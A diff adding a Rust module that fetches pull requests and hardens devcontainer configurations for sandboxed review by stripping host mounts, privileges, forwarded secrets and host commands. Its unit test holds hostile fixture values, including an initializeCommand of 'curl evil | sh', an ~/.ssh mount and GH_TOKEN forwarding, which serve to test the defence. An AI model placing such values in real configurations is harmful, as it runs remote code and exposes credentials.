@@ -0,0 +1,199 @@
+use std::fs;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+use serde_json::Value;
+
+/// Pull request number from `123`, `#123` or a GitHub pull request URL.
+pub fn parse_pr(pr: &str) -> anyhow::Result<u64> {
+    let pr = pr.trim().trim_end_matches('/');
+    let number = match pr.rsplit_once("/pull/") {
+        Some((_, rest)) => rest.split('/').next().unwrap_or(rest),
+        None => pr.trim_start_matches('#'),
+    };
+    number
+        .parse()
+        .map_err(|_| anyhow::anyhow!("{} is not a pull request number or URL", pr))
+}
+
+/// Local branch holding the head of pull request `pr`.
+pub fn branch(pr: u64) -> String {
+    format!("review/{}", pr)
+}
+
+/// Fetches the pull request's head from `origin` into its review branch,
+/// replacing what an earlier review fetched.
+pub fn fetch(repo_root: &Path, pr: u64, verbose: bool) -> anyhow::Result<String> {
+    let branch = branch(pr);
+    println!("Fetching pull request #{}", pr);
+    let mut cmd = Command::new("git");
+    cmd.args(["fetch", "--force", "origin"])
+        .arg(format!("+pull/{}/head:refs/heads/{}", pr, branch))
+        .current_dir(repo_root);
+    let status = crate::run_command_verbose(&mut cmd, verbose)?;
+    if !status.success() {
+        anyhow::bail!("failed to fetch pull request #{} from origin", pr);
+    }
+    Ok(branch)
+}
+
+/// Exports the files of `branch` into `dir`, without git metadata, so the
+/// sandbox gets the code but nothing that points back at the repository.
+pub fn snapshot(repo_root: &Path, branch: &str, dir: &Path) -> anyhow::Result<()> {
+    if dir.exists() {
+        fs::remove_dir_all(dir)?;
+    }
+    fs::create_dir_all(dir)?;
+    let mut archive = Command::new("git")
+        .args(["archive", "--format=tar", branch])
+        .current_dir(repo_root)
+        .stdout(Stdio::piped())
+        .spawn()?;
+    let stdout = archive
+        .stdout
+        .take()
+        .ok_or_else(|| anyhow::anyhow!("git archive has no output"))?;
+    let extracted = Command::new("tar")
+        .arg("-x")
+        .arg("-C")
+        .arg(dir)
+        .stdin(stdout)
+        .status()?;
+    if !archive.wait()?.success() || !extracted.success() {
+        anyhow::bail!("failed to export {} into {}", branch, dir.display());
+    }
+    Ok(())
+}
+
+/// `runArgs` a sandbox keeps: resource limits only, never mounts or devices.
+fn is_limit(arg: &str) -> bool {
+    ["--memory", "--cpus", "--pids-limit"]
+        .iter()
+        .any(|name| arg.starts_with(&format!("{}=", name)))
+}
+
+/// The trusted devcontainer configuration stripped of everything that could
+/// reach the host: commands run on the host, extra mounts, forwarded
+/// environment, privileges, ports and features, whose metadata can add any of
+/// those. The container's own filesystem is read-only but for tmpfs `/tmp`
+/// and `/var/tmp`; the workspace is `snapshot`, a throwaway copy mounted
+/// writable at `/code`, and `repo` is only mounted read-only at `/repo`.
+pub fn harden(value: &Value, snapshot: &Path, repo: &Path) -> Value {
+    let mut value = value.clone();
+    let Some(object) = value.as_object_mut() else {
+        return value;
+    };
+    for key in [
+        "initializeCommand",
+        "mounts",
+        "remoteEnv",
+        "privileged",
+        "capAdd",
+        "securityOpt",
+        "forwardPorts",
+        "appPort",
+        "portsAttributes",
+        "features",
+        "overrideFeatureInstallOrder",
+    ] {
+        object.remove(key);
+    }
+    if let Some(env) = object
+        .get_mut("containerEnv")
+        .and_then(Value::as_object_mut)
+    {
+        env.retain(|_, v| !v.as_str().unwrap_or_default().contains("${localEnv"));
+    }
+    let mut run_args: Vec<Value> = object
+        .get("runArgs")
+        .and_then(Value::as_array)
+        .map(|args| {
+            args.iter()
+                .filter(|a| a.as_str().is_some_and(is_limit))
+                .cloned()
+                .collect()
+        })
+        .unwrap_or_default();
+    for arg in [
+        "--security-opt=no-new-privileges",
+        "--read-only",
+        "--tmpfs=/tmp",
+        "--tmpfs=/var/tmp",
+    ] {
+        run_args.push(Value::String(arg.into()));
+    }
+    run_args.push(Value::String(format!(
+        "--volume={}:/repo:ro",
+        repo.display()
+    )));
+    object.insert("runArgs".to_string(), Value::Array(run_args));
+    object.insert(
+        "workspaceMount".to_string(),
+        Value::String(format!(
+            "type=bind,source={},target=/code",
+            snapshot.display()
+        )),
+    );
+    object.insert("workspaceFolder".to_string(), Value::String("/code".into()));
+    value
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parses_pull_request_references() {
+        assert_eq!(parse_pr("42").unwrap(), 42);
+        assert_eq!(parse_pr("#42").unwrap(), 42);
+        assert_eq!(
+            parse_pr("https://github.com/acme/widget/pull/42/files").unwrap(),
+            42
+        );
+        assert!(parse_pr("main").is_err());
+    }
+
+    #[test]
+    fn strips_host_access() {
+        let value: Value = serde_json::from_str(
+            r#"{"image": "x",
+                "initializeCommand": "curl evil | sh",
+                "mounts": ["source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind"],
+                "remoteEnv": {"GH_TOKEN": "${localEnv:GH_TOKEN}"},
+                "containerEnv": {"TOKEN": "${localEnv:TOKEN}", "RUST_LOG": "debug"},
+                "privileged": true,
+                "features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}},
+                "runArgs": ["--memory=4g", "-v", "/:/host", "--device=/dev/kvm"]}"#,
+        )
+        .unwrap();
+        let hardened = harden(&value, Path::new("/tmp/snap"), Path::new("/src/widget"));
+        for key in [
+            "initializeCommand",
+            "mounts",
+            "remoteEnv",
+            "privileged",
+            "features",
+        ] {
+            assert!(hardened.get(key).is_none(), "{}", key);
+        }
+        assert_eq!(
+            hardened["containerEnv"],
+            serde_json::json!({"RUST_LOG": "debug"})
+        );
+        assert_eq!(
+            hardened["runArgs"],
+            serde_json::json!([
+                "--memory=4g",
+                "--security-opt=no-new-privileges",
+                "--read-only",
+                "--tmpfs=/tmp",
+                "--tmpfs=/var/tmp",
+                "--volume=/src/widget:/repo:ro"
+            ])
+        );
+        assert_eq!(
+            hardened["workspaceMount"],
+            "type=bind,source=/tmp/snap,target=/code"
+        );
+    }
+}